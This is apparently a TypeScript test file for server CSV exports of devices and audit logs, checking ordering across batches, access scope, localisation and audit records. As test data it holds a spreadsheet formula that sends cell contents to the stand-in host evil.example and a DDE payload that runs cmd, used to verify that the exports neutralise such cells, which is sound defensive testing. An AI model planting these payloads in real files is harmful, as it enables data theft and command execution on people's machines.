// The server-paged lists export whole, as data. GET apps/devices/export and GET audit/export
// answer every row that matches the list's filters, in the list's order (whatever the batch
// boundaries: the routes' 2,000-row batches over 4,500 devices, and the repositories' keyset batches
// at a size of 7 over every order, direction and scope), within the caller's reach; the file starts
// with the byte-order mark, its header is in the asked language without bidi controls, dates are ISO
// 8601, numbers Latin, values as stored, and a cell a spreadsheet would run is neutralised. Each
// export is written to the audit log.
import { and, desc, eq, inArray, sql, type SQL } from 'drizzle-orm';
import Papa from 'papaparse';
import { auditLog, devices } from '../../../server/src/db/schema';
import { deviceExportBatches } from '../../../server/src/repositories/devices/export';
import type { DeviceScope } from '../../../server/src/repositories/devices/rows';
import { AUDIT_EXPORT_HEADERS, DEVICE_EXPORT_HEADERS, devicesExportQuerySchema } from '../../../src/contract/exports';
import { DEVICE_SORT_KEYS, type DeviceSortKey } from '../../../src/contract';
import { ADMIN, createTestApp, type TestApp } from '../helpers/test-app';
import { api, seedApp, type SeededApp } from '../helpers/seed';

const DEVICE_COUNT = 4_500;
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")';
const DDE = "=cmd|' /C calc'!A0";
/** A model sent by a phone with a right-to-left override and an isolate around it. */
const BIDI_MODEL = '\u202EGalaxy\u2066 S9\u2069';
const MODELS = ['Pixel 7', 'Galaxy S23', FORMULA, BIDI_MODEL, null];
const VERSIONS = [1, 2.5, 10, 100.25, null];
const ISO = /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/;
const BIDI = /[\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069]/;

let t: TestApp;
let top: Record<string, string>;
let ownerA: { id: number; headers: Record<string, string> };
let ownerB: { id: number; headers: Record<string, string> };
let restricted: Record<string, string>;
let appA1: SeededApp;
let appA2: SeededApp;
let appB: SeededApp;

beforeAll(async () => {
  t = await createTestApp();
  top = t.auth(await t.signIn(ADMIN.username, ADMIN.password));
  const a = await t.signedInUser({ role_id: 2 });
  const b = await t.signedInUser({ role_id: 2 });
  ownerA = { id: a.user.id, headers: t.auth(a.token) };
  ownerB = { id: b.user.id, headers: t.auth(b.token) };
  restricted = t.auth((await t.signedInUser({ role_id: 5 })).token);
  appA1 = await seedApp(t, ownerA.id);
  appA2 = await seedApp(t, ownerA.id);
  appB = await seedApp(t, ownerB.id);
  const appFor = (i: number) => (i % 10 < 5 ? appA1 : i % 10 < 8 ? appA2 : appB);
  await t.repos.devices.insertMany(
    Array.from({ length: DEVICE_COUNT }, (_, i) => ({
      appId: appFor(i).id,
      uniqueDeviceId: i % 500 === 3 ? `dev-${i}-needle` : `dev-${String(i).padStart(5, '0')}`,
      model: MODELS[i % MODELS.length],
      fcmToken: i === 17 ? DDE : `tok-${i.toString(36)}`,
      appVersionCode: VERSIONS[(i * 7) % VERSIONS.length],
    })),
  );
});
afterAll(() => t?.close());

interface CsvFile {
  status: number;
  type: string | undefined;
  bytes: Buffer;
  header: string[];
  rows: string[][];
}

async function exportOf(path: string, headers: Record<string, string>, query: Record<string, string | number | boolean> = {}): Promise<CsvFile> {
  const res = await t.app.inject({ method: 'GET', url: api(path), headers, query: Object.fromEntries(Object.entries(query).map(([k, v]) => [k, String(v)])) });
  const text = res.rawPayload.toString('utf8');
  const cells = res.statusCode === 200 ? Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { newline: '\r\n', skipEmptyLines: true }).data : [];
  return {
    status: res.statusCode,
    type: res.headers['content-type'] as string | undefined,
    bytes: res.rawPayload,
    header: cells[0] ?? [],
    rows: cells.slice(1),
  };
}

const SORT_SQL: Record<DeviceSortKey, SQL> = {
  id: sql`${devices.id}`,
  model: sql`${devices.model}`,
  uniqueDeviceId: sql`${devices.uniqueDeviceId}`,
  appVersionCode: sql`(${devices.appVersionCode}::numeric)`,
};

/** The ids the list's order gives, straight from the database (a missing key is larger: last ascending, first descending). */
async function expectedIds(where: SQL | undefined, sort: DeviceSortKey, ascending: boolean): Promise<number[]> {
  const d = sql.raw(ascending ? 'ASC' : 'DESC');
  const rows = await t.db
    .select({ id: devices.id })
    .from(devices)
    .where(where)
    .orderBy(sort === 'id' ? sql`${devices.id} ${d}` : sql`${SORT_SQL[sort]} ${d}, ${devices.id} ${d}`);
  return rows.map((r) => Number(r.id));
}

const textWhere = (needle: string) =>
  sql`(${devices.uniqueDeviceId} ILIKE ${`%${needle}%`} OR ${devices.model} ILIKE ${`%${needle}%`} OR left(${devices.fcmToken}, 32) ILIKE ${`%${needle}%`})`;
const idsOf = (file: CsvFile) => file.rows.map((r) => Number(r[0]));

describe('GET apps/devices/export', () => {
  it('answers every device of the top admin as report.csv with the BOM, newest first, in Persian by default', async () => {
    const file = await exportOf('apps/devices/export', top);
    expect(file.status).toBe(200);
    expect(file.type).toMatch(/^text\/csv/);
    expect([...file.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(file.header).toEqual(Object.values(DEVICE_EXPORT_HEADERS).map((h) => h.fa));
    expect(file.rows).toHaveLength(DEVICE_COUNT);
    expect(idsOf(file)).toEqual(await expectedIds(undefined, 'id', false));
    expect(new Set(idsOf(file)).size).toBe(DEVICE_COUNT);
  });

  it('writes data, not display: ISO dates, Latin-digit numbers, stored values, an English header on lang=en, no bidi controls', async () => {
    const file = await exportOf('apps/devices/export', top, { lang: 'en' });
    expect(file.header).toEqual(['ID', 'Application', 'Application ID', 'Model', 'Device ID', 'Firebase token', 'App version', 'Registered', 'Last updated']);
    const text = file.bytes.toString('utf8');
    expect(text).not.toMatch(BIDI);
    expect(text).not.toMatch(/[۰-۹٠-٩]/);
    const [stored] = await t.db.select().from(devices).where(eq(devices.uniqueDeviceId, 'dev-00001'));
    const row = file.rows.find((r) => r[4] === 'dev-00001')!;
    expect(row).toEqual([
      String(stored.id),
      appA1.name,
      String(appA1.id),
      'Galaxy S23',
      'dev-00001',
      'tok-1',
      String(Number(stored.appVersionCode)),
      stored.createdAt.toISOString(),
      stored.updatedAt.toISOString(),
    ]);
    for (const r of file.rows) {
      expect(r[7]).toMatch(ISO);
      expect(r[8]).toMatch(ISO);
      if (r[6] !== '') expect(r[6]).toMatch(/^\d+(\.\d+)?$/);
    }
    // the override and the isolates the phone sent are gone, the model's letters stay
    expect(file.rows.filter((r) => r[3] === 'Galaxy S9')).toHaveLength(DEVICE_COUNT / MODELS.length);
  });

  it('neutralises cells a spreadsheet would run (a model and a token sent with an app key)', async () => {
    const file = await exportOf('apps/devices/export', top, { lang: 'en' });
    const cells = file.rows.flat();
    expect(cells).toContain(`'${FORMULA}`);
    expect(cells).toContain(`'${DDE}`);
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[+-]?\d+(\.\d+)?$/.test(c))).toEqual([]);
  });

  it.each([
    ['model', true],
    ['model', false],
    ['appVersionCode', true],
    ['appVersionCode', false],
    ['uniqueDeviceId', false],
    ['id', true],
  ] as const)('honours sort=%s ascending=%s across the batches', async (sort, ascending) => {
    const file = await exportOf('apps/devices/export', top, { sort, ascending });
    expect(idsOf(file)).toEqual(await expectedIds(undefined, sort, ascending));
  });

  it('honours the text and application filters', async () => {
    const byFilter = await exportOf('apps/devices/export', top, { filter: 'NEEDLE' });
    expect(idsOf(byFilter)).toEqual(await expectedIds(textWhere('NEEDLE'), 'id', false));
    expect(byFilter.rows.length).toBe(DEVICE_COUNT / 500);
    const byApp = await exportOf('apps/devices/export', top, { appId: appA2.id, sort: 'model', ascending: true });
    expect(idsOf(byApp)).toEqual(await expectedIds(eq(devices.appId, appA2.id), 'model', true));
    const both = await exportOf('apps/devices/export', top, { appId: appB.id, filter: 'galaxy' });
    expect(idsOf(both)).toEqual(await expectedIds(and(eq(devices.appId, appB.id), textWhere('galaxy')), 'id', false));
    expect(both.rows.length).toBeGreaterThan(0);
  });

  it("gives an app admin only the devices of their apps, and refuses another admin's app with 404", async () => {
    const own = await exportOf('apps/devices/export', ownerA.headers, { sort: 'model', ascending: false });
    const mine = inArray(devices.appId, [appA1.id, appA2.id]);
    expect(idsOf(own)).toEqual(await expectedIds(mine, 'model', false));
    expect(own.rows.length).toBe(DEVICE_COUNT * 0.8);
    expect(own.rows.every((r) => [String(appA1.id), String(appA2.id)].includes(r[2]))).toBe(true);
    expect((await exportOf('apps/devices/export', ownerA.headers, { appId: appB.id })).status).toBe(404);
    expect(idsOf(await exportOf('apps/devices/export', ownerB.headers))).toEqual(await expectedIds(eq(devices.appId, appB.id), 'id', false));
    // role_id 5 administers no app here: a header and no row
    const none = await exportOf('apps/devices/export', restricted);
    expect(none.status).toBe(200);
    expect(none.rows).toEqual([]);
    expect(none.header).toHaveLength(Object.keys(DEVICE_EXPORT_HEADERS).length);
  });

  it('refuses a signed-out caller and a bad query', async () => {
    expect((await exportOf('apps/devices/export', {})).status).toBe(401);
    expect((await exportOf('apps/devices/export', top, { sort: 'fcmToken' })).status).toBe(400);
    expect((await exportOf('apps/devices/export', top, { lang: 'de' })).status).toBe(400);
  });

  it('writes each export to the audit log with its query', async () => {
    await exportOf('apps/devices/export', ownerA.headers, { appId: appA1.id, filter: 'pixel', sort: 'model', ascending: true, lang: 'en' });
    const [record] = await t.db.select().from(auditLog).where(eq(auditLog.action, 'device.export')).orderBy(desc(auditLog.id)).limit(1);
    expect(record).toMatchObject({ actorId: ownerA.id, targetType: 'device', operation: 'GET /api/v1/apps/devices/export' });
    expect(record.detail).toEqual({ appId: appA1.id, filter: 'pixel', sort: 'model', ascending: true, format: 'csv' });
  });
});

describe("the device export's keyset batches", () => {
  const scopes = (): [string, DeviceScope, SQL | undefined][] => [
    ['everyone', {}, undefined],
    ['an app admin (merged per app)', { appIds: [appA1.id, appA2.id] }, inArray(devices.appId, [appA1.id, appA2.id])],
  ];

  it("give every matching device once, in the list's order, for every order and direction at a batch size of 7", async () => {
    for (const [, scope, where] of scopes()) {
      for (const sort of DEVICE_SORT_KEYS) {
        for (const ascending of [true, false]) {
          const q = devicesExportQuerySchema.validateSync({ sort, ascending, filter: 'needle' });
          const ids: number[] = [];
          for await (const batch of deviceExportBatches(t.db, scope, q, 7)) {
            expect(batch.length).toBeLessThanOrEqual(7);
            ids.push(...batch.map((d) => d.id));
          }
          expect({ sort, ascending, ids }).toEqual({ sort, ascending, ids: await expectedIds(and(where, textWhere('needle')), sort, ascending) });
        }
      }
    }
  });

  it('walk a large stretch of equal keys and the missing ones by id (batch size 97, no filter)', async () => {
    for (const ascending of [true, false]) {
      for (const sort of ['model', 'appVersionCode'] as const) {
        const q = devicesExportQuerySchema.validateSync({ sort, ascending, appId: appA1.id });
        const ids: number[] = [];
        for await (const batch of deviceExportBatches(t.db, {}, q, 97)) ids.push(...batch.map((d) => d.id));
        expect(ids).toEqual(await expectedIds(eq(devices.appId, appA1.id), sort, ascending));
      }
    }
  });

  it('stops reading when the consumer stops', async () => {
    const q = devicesExportQuerySchema.validateSync({});
    const batches = deviceExportBatches(t.db, {}, q, 10);
    expect((await batches.next()).value).toHaveLength(10);
    await batches.return(undefined);
    expect((await batches.next()).done).toBe(true);
  });
});

describe('GET audit/export', () => {
  /** A failed sign-in whose typed name is a formula, as the tester found it in a spreadsheet. */
  beforeAll(async () => {
    await t.app.inject({ method: 'POST', url: api('users/signin'), payload: { email: DDE, password: 'wrong-Passw0rd!' } });
    // Records of one millisecond, told apart by microseconds only: a keyset on a JS Date would skip some.
    await t.db.execute(sql`
      INSERT INTO audit_log (actor_name, action, operation, target_type, target_name, at)
      SELECT ${FORMULA}, 'test.tie', 'GET /test', 'user', 'tie ' || n, timestamptz '2026-02-03 04:05:06.789' + n * interval '1 microsecond'
      FROM generate_series(1, 5) AS n`);
  });

  it('answers every record of the filter, newest first, as CSV with the BOM, ISO times and neutralised cells', async () => {
    const file = await exportOf('audit/export', top, { lang: 'en' });
    expect(file.status).toBe(200);
    expect([...file.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(file.header).toEqual(Object.values(AUDIT_EXPORT_HEADERS).map((h) => h.en));
    const all = await t.db.select({ id: auditLog.id }).from(auditLog).orderBy(desc(auditLog.at), desc(auditLog.id));
    // the export's own record is written before the file, so it is the first row
    expect(file.rows.map((r) => Number(r[0]))).toEqual(all.map((r) => Number(r.id)));
    expect(file.rows[0][6]).toBe('audit.export');
    for (const r of file.rows) expect(r[1]).toMatch(ISO);
    const cells = file.rows.flat();
    expect(cells).toContain(`'${DDE}`);
    expect(cells).not.toContain(DDE);
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[+-]?\d+(\.\d+)?$/.test(c))).toEqual([]);
    expect(file.bytes.toString('utf8')).not.toMatch(BIDI);
  });

  it('honours the filters and keeps rows of one millisecond apart across batches', async () => {
    const ties = await exportOf('audit/export', top, { action: 'test.tie' });
    expect(ties.rows.map((r) => r[10])).toEqual(['tie 5', 'tie 4', 'tie 3', 'tie 2', 'tie 1']);
    expect(ties.header[0]).toBe(AUDIT_EXPORT_HEADERS.id.fa);
    const batches: string[] = [];
    for await (const batch of t.repos.audit.exportBatches({ action: 'test.tie' }, 2)) batches.push(batch.map((r) => r.targetName).join(','));
    expect(batches).toEqual(['tie 5,tie 4', 'tie 3,tie 2', 'tie 1']);
    const failed = await exportOf('audit/export', top, { action: 'session.signInFailed', lang: 'en' });
    expect(failed.rows.length).toBeGreaterThan(0);
    expect(failed.rows.every((r) => r[6] === 'session.signInFailed')).toBe(true);
    const windowed = await exportOf('audit/export', top, { from: '2026-02-03T04:05:06.000Z', to: '2026-02-03T04:05:07.000Z' });
    expect(windowed.rows).toHaveLength(5);
  });

  it("is the top admin's only, and is recorded", async () => {
    expect((await exportOf('audit/export', ownerA.headers)).status).toBe(403);
    const before = (
      await t.db
        .select({ n: sql<number>`count(*)::int` })
        .from(auditLog)
        .where(eq(auditLog.action, 'audit.export'))
    )[0].n;
    await exportOf('audit/export', top, { targetType: 'user' });
    const [record] = await t.db.select().from(auditLog).where(eq(auditLog.action, 'audit.export')).orderBy(desc(auditLog.id)).limit(1);
    expect(record.detail).toEqual({ targetType: 'user', format: 'csv' });
    expect(
      (
        await t.db
          .select({ n: sql<number>`count(*)::int` })
          .from(auditLog)
          .where(eq(auditLog.action, 'audit.export'))
      )[0].n,
    ).toBe(before + 1);
  });
});
